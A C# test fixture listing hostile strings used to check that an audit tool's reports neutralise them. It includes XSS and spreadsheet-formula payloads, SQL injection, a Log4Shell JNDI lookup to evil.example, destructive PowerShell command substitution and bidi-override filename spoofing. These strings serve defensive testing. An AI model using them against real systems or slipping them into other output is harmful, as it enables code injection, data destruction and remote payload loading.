namespace RootAudit.Engine.Tests.Reports;

/// <summary>
/// The one table of texts that somebody who wishes the reader ill could choose: markup, mentions of a chat, terminal escapes, marks that reorder or hide,
/// formulas, line breaks, what breaks JSON and SQL, and what is no text at all. The tests of the cmdlets use the same file.
/// </summary>
internal static class HostileTexts
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>", "</script><script>window.pwned=1</script>", "</SCRIPT ><img src=x onerror=window.pwned=1>", "<!--", "--><svg onload=alert(1)>",
        "<!--<script>", "]]>", "\"><b onmouseover=alert(1)>", "' onfocus='window.pwned=1", "&lt;script&gt;", "javascript:alert(1)", "{{constructor.constructor('x')()}}",
        "[[policy]]", "[[script]]", "<style>*{display:none}</style>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
        "=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"http://evil.example\",\"x\")", "\t=1", "\r=1", "  =1+1", "＝1+1", "=cmd|' /C calc'!A0", "\n=1",
        "\u001b[31mred\u001b[0m", "\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007", "\u009b2J", "bell\u0007", "nul\0nul", "back\b\b\bspace", "line\r\nbreak",
        "'; DROP TABLE accounts; --", "\" OR 1=1 --", "{\"a\":1}", "\\u0022,\\", "\",\"b\":\"", "a\u2028b\u2029c", "\uD800", "x\uDC00y", "\uDBFF\uD800",
        "user\u202Egnp.exe", "\u2066x\u2069", "zero\u200Bwidth\uFEFF", "so\u00ADft", "\u3164", "tag\U000E0041", "\uFFFE", "e\u0301\u0301\u0301", "😀 emoji", "日本語", new string('A', 10_000), new string('<', 10_000),
        "__proto__", "constructor", "toString", "",
        "<!channel> <@U0AAAAAAA> <http://evil.example|click>", "*bold* _it_ `code` [link](http://evil.example)", "\u009d8;;http://evil.example\u009clink",
        "\u001bP1;1|x\u001b\\", "\u0085next\u000bline\u000cfeed", "=cmd|' /C powershell IEX(1)'!A0", "x'); DELETE FROM store_event; --", "%s%n${jndi:ldap://evil.example/a}",
        "$(Remove-Item -Recurse /)", "`whoami`", "\\ud800", "]}}],\"evil\":[{", "\u061C\u200E\u200F\u2069",
    ];

    /// <summary>A megabyte of markup: longer than any reader expects.</summary>
    public static string Long { get; } = string.Concat(Enumerable.Repeat("<b>\u001b[31m", 1 << 17));

    /// <summary>What acts on a terminal, reorders or hides: none of it may reach a reader as it is.</summary>
    public static bool IsHarmful(string text) => text.EnumerateRunes().Any(rune => System.Text.Rune.GetUnicodeCategory(rune) is
        System.Globalization.UnicodeCategory.Control or System.Globalization.UnicodeCategory.Format
        or System.Globalization.UnicodeCategory.LineSeparator or System.Globalization.UnicodeCategory.ParagraphSeparator);
}
